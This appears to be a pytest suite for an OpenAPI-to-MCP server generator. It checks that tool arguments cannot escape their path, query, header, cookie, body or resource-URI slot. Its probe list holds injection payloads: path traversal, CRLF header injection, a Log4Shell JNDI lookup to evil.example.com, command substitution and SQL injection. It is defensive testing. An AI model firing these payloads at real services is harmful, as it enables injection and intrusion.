"""Request safety probes: hostile argument values never leave their place in the upstream request.

Every probe value goes into every position (path segment in three styles, query, header, cookie,
JSON body, a resource-template URI) of a tool call against a recording upstream on 127.0.0.1. A probe
*escapes* when a request reaches the upstream with anything but the value exactly in its slot: an
extra or missing path segment, a changed host, an added query parameter or header line, a cookie
that does not decode to the value. A refusal (``isError`` naming the argument, nothing sent) is
safe. The run counts probes and escapes (which must be 0) and prints them in the closing summary.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from http.cookies import SimpleCookie
from typing import Any
from urllib.parse import parse_qsl, unquote

import pytest

from openapi2mcp.generate import GenerateOptions, generate
from tests.catalogs import catalog_from_files
from tests.reliability import fault_server as fs
from tests.reliability.kit import (
    META,
    call_tool,
    catalog,
    operation,
    parameter,
    record,
    server,
    texts,
    tool,
)

API_KEY = "canary-key-5f0c1d2e"
PROBES = [
    "../admin",
    "..",
    ".",
    "%2e%2e",
    "%2E%2E%2Fadmin",
    "..%2fadmin",
    "%252e%252e%252fadmin",
    "....//admin",
    "..\\admin",
    "..;/admin",
    "/admin",
    "//evil.example.com/x",
    "http://evil.example.com/",
    "https://evil.example.com:443@127.0.0.1/",
    "@evil.example.com",
    "evil.example.com:80",
    "?admin=1",
    "#fragment",
    "a/b",
    "a?b#c",
    "a&b=c",
    "a;b=c",
    "+ =",
    "%",
    "%00",
    "\x00",
    "\r\nHost: evil.example.com",
    "x\nX-Injected: 1",
    "\u2025",
    "．．／admin",
    "ｅｖｉｌ",
    "é ü 漢字 🙂",
    "${jndi:ldap://evil.example.com/a}",
    "{id}",
    "`id`",
    "' OR '1'='1",
    "a" * 3000,
    " ",
]


def _catalog(base_url: str) -> Any:
    key = {"type": "apiKey", "location": "header", "name": "X-API-Key", "env": "REL_API_KEY"}
    security = [["key"]]
    string = {"type": "string"}
    ops = {
        "path_simple": operation(
            "GET", "/items/{id}", [parameter("id", "path")], security=security
        ),
        "path_label": operation(
            "GET", "/items/{id}", [parameter("id", "path", style="label")], security=security
        ),
        "path_matrix": operation(
            "GET", "/items/{id}", [parameter("id", "path", style="matrix")], security=security
        ),
        "query": operation("GET", "/search", [parameter("q")], security=security),
        "header": operation("GET", "/h", [parameter("X-Trace", "header")], security=security),
        "cookie": operation("GET", "/c", [parameter("hint", "cookie")], security=security),
        "body": operation(
            "POST",
            "/items",
            security=security,
            body={"contentType": "application/json", "required": True, "argument": "body"},
        ),
    }
    tools = [
        tool("path_simple", {"id": string}, required=["id"]),
        tool("path_label", {"id": string}, required=["id"]),
        tool("path_matrix", {"id": string}, required=["id"]),
        tool("query", {"q": string}),
        tool("header", {"X-Trace": string}),
        tool("cookie", {"hint": string}),
        tool("body", {"body": {"type": "object"}}, required=["body"]),
    ]
    cat = catalog(ops, tools, schemes={"key": key}, base_url=base_url)
    cat["resourceTemplates"] = [{"uriTemplate": "rel://items/{id}", "name": "item"}]
    cat["templateBindings"] = {
        "rel://items/{id}": {"operation": "path_simple", "variables": {"id": "id"}}
    }
    return cat


@pytest.fixture
def upstream() -> Iterator[fs.FaultServer]:
    with fs.FaultServer() as fake:
        yield fake


def _path_slot(target: str, style: str) -> str | None:
    """The text standing for the value in ``/v1/items/<slot>``, or None when the shape changed."""
    path, _, query = target.partition("?")
    segments = path.split("/")
    if segments[:3] != ["", "v1", "items"] or len(segments) != 4 or query:
        return None
    slot = segments[3]
    prefix = {"simple": "", "label": ".", "matrix": ";id="}[style]
    return unquote(slot[len(prefix) :]) if slot.startswith(prefix) else None


def _escaped(name: str, value: str, seen: fs.Seen, host: str) -> bool:
    """Whether the request ``seen`` for probe ``value`` in tool ``name`` left its slot."""
    if seen.headers.get("host") != host or seen.headers.get("x-api-key") != API_KEY:
        return True
    if seen.headers.get("x-injected") is not None or "evil" in seen.headers.get("host", ""):
        return True
    if name.startswith("path_"):
        return _path_slot(seen.target, name.removeprefix("path_")) != value
    path, _, query = seen.target.partition("?")
    if name == "query":
        return path != "/v1/search" or parse_qsl(query, keep_blank_values=True) != [("q", value)]
    if name == "header":
        # non-ASCII header values travel as UTF-8 bytes; the recorder reads them as latin-1
        sent = seen.headers.get("x-trace", "").encode("latin-1").decode("utf-8")
        return path != "/v1/h" or sent != value
    if name == "cookie":
        cookie: SimpleCookie = SimpleCookie()
        cookie.load(seen.headers.get("cookie", ""))
        return path != "/v1/c" or [(k, unquote(m.value)) for k, m in cookie.items()] != [
            ("hint", value)
        ]
    return path != "/v1/items" or json.loads(seen.body) != {"probe": value}


async def test_probes_never_escape_their_slot(upstream: fs.FaultServer) -> None:
    host = upstream.url.removeprefix("http://")
    env = {"REL_BASE_URL": upstream.url + "/v1", "REL_API_KEY": API_KEY, "REL_RATE_LIMIT": "0"}
    srv = server(_catalog(upstream.url + "/v1"), env)
    names = ["path_simple", "path_label", "path_matrix", "query", "header", "cookie", "body"]
    probes = escapes = refused = 0
    failures: list[str] = []
    try:
        for value in PROBES:
            for name in names:
                argument = {
                    "body": {"body": {"probe": value}},
                    "query": {"q": value},
                    "header": {"X-Trace": value},
                    "cookie": {"hint": value},
                }.get(name, {"id": value})
                before = len(upstream.requests)
                reply = await call_tool(srv, name, argument)
                probes += 1
                sent = upstream.requests[before:]
                if reply["result"].get("isError"):
                    refused += 1
                    if sent:  # a refusal must not have sent anything
                        escapes += 1
                        failures.append(f"{name} {value!r}: refused after sending")
                    continue
                if len(sent) != 1 or _escaped(name, value, sent[0], host):
                    escapes += 1
                    failures.append(f"{name} {value!r}: {[s.target for s in sent]}")
    finally:
        await srv.aclose()
    record(
        "request safety",
        f"tool-call probes: {probes} ({len(PROBES)} values x {len(names)} positions), "
        f"refused {refused}, escapes {escapes}",
    )
    assert failures == []
    assert escapes == 0


async def test_refusals_name_the_argument_and_send_nothing(upstream: fs.FaultServer) -> None:
    env = {"REL_BASE_URL": upstream.url + "/v1", "REL_API_KEY": API_KEY}
    srv = server(_catalog(upstream.url + "/v1"), env)
    try:
        dots = await call_tool(srv, "path_simple", {"id": "..%2Fadmin"})
        line = await call_tool(srv, "header", {"X-Trace": "a\r\nX-Injected: 1"})
    finally:
        await srv.aclose()
    assert texts(dots) == (
        "argument 'id' is refused: as a path segment it would contain '.' or '..', which could "
        "reach another path of the API"
    )
    assert texts(line) == (
        "argument 'X-Trace' contains a line break, which cannot be sent in the HTTP header "
        "'X-Trace'"
    )
    assert upstream.requests == []


async def test_resource_uris_cannot_escape_either(upstream: fs.FaultServer) -> None:
    env = {"REL_BASE_URL": upstream.url + "/v1", "REL_API_KEY": API_KEY, "REL_RATE_LIMIT": "0"}
    srv = server(_catalog(upstream.url + "/v1"), env)

    async def no_notify(message: dict[str, Any]) -> None:
        return None

    uris = [
        "rel://items/..%2Fadmin",
        "rel://items/%2e%2e",
        "rel://items/a%2Fb",
        "rel://items/a%3Fb%23c",
        "rel://items/%252e%252e",
        "rel://items/x%0D%0AHost:%20evil",
        "rel://items/../admin",
        "rel://items/%40evil.example.com",
    ]
    escapes = 0
    try:
        for i, uri in enumerate(uris):
            before = len(upstream.requests)
            message = {
                "jsonrpc": "2.0",
                "id": i,
                "method": "resources/read",
                "params": {"_meta": META, "uri": uri},
            }
            reply = await srv.dispatcher.handle(message, None, no_notify)
            assert reply is not None
            sent = upstream.requests[before:]
            if "error" in reply:
                escapes += bool(sent)
                continue
            value = unquote(uri.removeprefix("rel://items/"))
            if len(sent) != 1 or _path_slot(sent[0].target, "simple") != value:
                escapes += 1
    finally:
        await srv.aclose()
    record("request safety", f"resource-URI probes: {len(uris)}, escapes {escapes}")
    assert escapes == 0


@pytest.mark.parametrize(
    ("arguments", "problem"),
    [
        # (7 would go as the text "7", which the string takes: texts_as_sent)
        ({"id": {"n": 7}}, 'id: {"n":7} is not of type "string"'),
        ({}, '"id" is a required property'),
        ({"id": "1", "host": "evil.example.com"}, "host"),
        ({"id": "1", "baseUrl": "http://evil.example.com"}, "baseUrl"),
        ({"id": None}, "id"),
        ({"id": ["a", "b"]}, "id"),
    ],
)
async def test_arguments_are_validated_before_any_upstream_call(
    upstream: fs.FaultServer, arguments: dict[str, Any], problem: str
) -> None:
    env = {"REL_BASE_URL": upstream.url + "/v1", "REL_API_KEY": API_KEY}
    srv = server(_catalog(upstream.url + "/v1"), env)
    try:
        reply = await call_tool(srv, "path_simple", arguments)
    finally:
        await srv.aclose()
    assert reply["result"]["isError"] is True
    assert texts(reply).startswith("Invalid arguments for tool 'path_simple':")
    assert problem in texts(reply)
    assert upstream.requests == []


def test_server_variables_are_fixed_at_generation(tmp_path: Any) -> None:
    """Server variables become their defaults in the base URL; no tool argument can set them."""
    spec = tmp_path / "spec.yaml"
    spec.write_text(
        json.dumps(
            {
                "openapi": "3.1.0",
                "info": {"title": "Regions", "version": "1.0.0"},
                "servers": [
                    {
                        "url": "https://{region}.api.example.com/{base}",
                        "variables": {
                            "region": {"default": "eu", "enum": ["eu", "us"]},
                            "base": {"default": "v2"},
                        },
                    }
                ],
                "paths": {
                    "/things/{id}": {
                        "get": {
                            "operationId": "getThing",
                            "parameters": [
                                {"name": "id", "in": "path", "required": True, "schema": {}}
                            ],
                            "responses": {"200": {"description": "ok"}},
                        }
                    }
                },
            }
        )
    )
    files = generate(str(spec), GenerateOptions()).files
    cat = catalog_from_files(files, next(path for path in files if path.endswith("catalog.json")))
    assert cat["upstream"]["baseUrl"] == "https://eu.api.example.com/v2"
    properties = {name for t in cat["tools"] for name in t["inputSchema"].get("properties", {})}
    assert properties == {"id", "_select"}  # no server variable; the selection of read tools
